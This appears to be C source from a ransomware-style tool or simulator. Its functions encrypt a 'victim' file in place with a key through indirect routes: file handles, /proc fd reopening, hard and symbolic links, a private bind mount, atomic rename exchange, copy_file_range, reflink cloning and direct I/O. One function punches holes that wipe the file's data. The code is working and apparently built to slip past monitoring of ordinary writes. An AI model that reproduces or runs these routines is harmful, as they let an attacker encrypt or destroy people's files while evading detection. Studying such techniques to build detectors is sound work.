/* Ways to a file, and into its bytes, that are not its path and write(): handles, links, mounts, ranges. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "pattern.h"

static int cipher_and_close(const struct victim *victim, int fd) {
        if (fd < 0)
                return -errno;
        int r = cipher_in_place(fd, victim->key, victim->size_bytes, &(struct shape){0});
        close(fd);
        return r;
}

int alter_by_handle(struct victim *victim) {
        union {
                struct file_handle handle;
                char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
        } id = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
        int mount;
        if (name_to_handle_at(victim->folder, victim->name, &id.handle, &mount, 0) < 0)
                return -errno;
        return cipher_and_close(victim, open_by_handle_at(victim->folder, &id.handle, O_RDWR | O_CLOEXEC));
}

int alter_by_reopen(struct victim *victim) {
        char path[64];
        int fd = scratch_at(victim->folder, victim->name, O_PATH);
        if (fd < 0)
                return fd;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int r = cipher_and_close(victim, open(path, O_RDWR | O_CLOEXEC));
        close(fd);
        return r;
}

int alter_by_hard_link(struct victim *victim) {
        char name[64];
        snprintf(name, sizeof(name), "%016llx", (unsigned long long)victim->key);
        if (linkat(victim->folder, victim->name, victim->job->root, name, 0) < 0)
                return -errno;
        int r = cipher_and_close(victim, openat(victim->job->root, name, O_RDWR | O_NOFOLLOW | O_CLOEXEC));
        unlinkat(victim->job->root, name, 0);
        return r;
}

/* The link is the process's own, and names the victim alone; O_NOFOLLOW would defeat the pattern. */
int alter_by_symlink(struct victim *victim) {
        char name[64];
        snprintf(name, sizeof(name), "%016llx", (unsigned long long)victim->key);
        if (symlinkat(victim->name, victim->folder, name) < 0)
                return -errno;
        int r = cipher_and_close(victim, openat(victim->folder, name, O_RDWR | O_CLOEXEC));
        unlinkat(victim->folder, name, 0);
        return r;
}

/* The folder, mounted over /mnt in a mount namespace that nobody else sees and that ends with the thread. By its
 * path, since a descriptor belongs to the namespace that was left; what came of it has to be the same folder. */
int alter_by_mount(struct victim *victim) {
        char path[PATH_MAX], link[64];
        struct stat folder, mounted;
        snprintf(link, sizeof(link), "/proc/self/fd/%d", victim->folder);
        ssize_t n = readlink(link, path, sizeof(path) - 1);
        if (n < 0 || unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                return -errno;
        path[n] = '\0';
        if (mount(path, "/mnt", NULL, MS_BIND, NULL) < 0)
                return -errno;
        snprintf(path, sizeof(path), "/mnt/%s", victim->name);
        int r = fstat(victim->folder, &folder) < 0 || stat("/mnt", &mounted) < 0 ? -errno : 0;
        if (r == 0 && (folder.st_ino != mounted.st_ino || folder.st_dev != mounted.st_dev))
                r = -EXDEV;
        if (r == 0)
                r = cipher_and_close(victim, open(path, O_RDWR | O_NOFOLLOW | O_CLOEXEC));
        umount2("/mnt", MNT_DETACH);
        return r;
}

int alter_by_punch(struct victim *victim) {
        if (!victim->size_bytes)
                return UNTOUCHED;
        int fd = scratch_at(victim->folder, victim->name, O_RDWR), r = 0;
        if (fd < 0)
                return fd;
        int mode = FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE;
        if (fallocate(fd, mode, 0, (off_t)victim->size_bytes) < 0)
                r = -errno;
        close(fd);
        return r;
}

/* A new file with the encrypted content beside the victim. */
static int make_beside(struct victim *victim, char name[256]) {
        int r = extended_name(victim, name, 256);
        int from = r < 0 ? r : scratch_at(victim->folder, victim->name, O_RDONLY);
        if (from < 0)
                return from;
        int to = scratch_at(victim->folder, name, O_RDWR | O_CREAT | O_EXCL);
        r = to < 0 ? to : cipher_copy(from, to, victim->key);
        close(from);
        if (to >= 0 && r < 0)
                close(to);
        return r < 0 ? r : to;
}

int alter_by_exchange(struct victim *victim) {
        char name[256];
        int fd = make_beside(victim, name);
        if (fd < 0)
                return fd;
        close(fd);
        if (renameat2(victim->folder, name, victim->folder, victim->name, RENAME_EXCHANGE) < 0)
                return -errno;
        return unlinkat(victim->folder, name, 0) < 0 ? -errno : 0;
}

static int over_victim(struct victim *victim, int (*copy)(int from, int to, uint64_t size)) {
        char name[256];
        if (!victim->size_bytes)
                return UNTOUCHED;
        int from = make_beside(victim, name);
        if (from < 0)
                return from;
        int to = scratch_at(victim->folder, victim->name, O_WRONLY);
        int r = to < 0 ? to : copy(from, to, victim->size_bytes);
        close(from);
        if (to >= 0)
                close(to);
        unlinkat(victim->folder, name, 0);
        return r;
}

static int copy_range(int from, int to, uint64_t size) {
        off_t in = 0, out = 0;
        while ((uint64_t)out < size) {
                ssize_t n = copy_file_range(from, &in, to, &out, size - (uint64_t)out, 0);
                if (n <= 0)
                        return n < 0 ? -errno : -EIO;
        }
        return 0;
}

static int copy_clone(int from, int to, uint64_t size) {
        (void)size;
        return ioctl(to, FICLONE, from) < 0 ? -errno : 0;
}

int alter_by_copy_range(struct victim *victim) {
        return over_victim(victim, copy_range);
}

int alter_by_clone(struct victim *victim) {
        return over_victim(victim, copy_clone);
}

/* Whole blocks go past the page cache; the tail, which is none, is left. */
int alter_by_direct(struct victim *victim) {
        enum { ALIGNMENT = 4096 };
        uint64_t whole = victim->size_bytes / ALIGNMENT * ALIGNMENT;
        uint8_t *block = aligned_alloc(ALIGNMENT, BLOCK_BYTES);
        int fd = scratch_at(victim->folder, victim->name, O_RDWR | O_DIRECT), r = fd < 0 ? fd : UNTOUCHED;
        for (uint64_t at = 0; block && r >= 0 && at < whole; at += BLOCK_BYTES) {
                size_t n = whole - at < BLOCK_BYTES ? whole - at : BLOCK_BYTES;
                r = pread(fd, block, n, (off_t)at) == (ssize_t)n ? 0 : -EIO;
                cipher_apply(victim->key, at, block, n);
                if (r == 0)
                        r = write_all(fd, block, n, at);
        }
        free(block);
        if (fd >= 0)
                close(fd);
        return r;
}
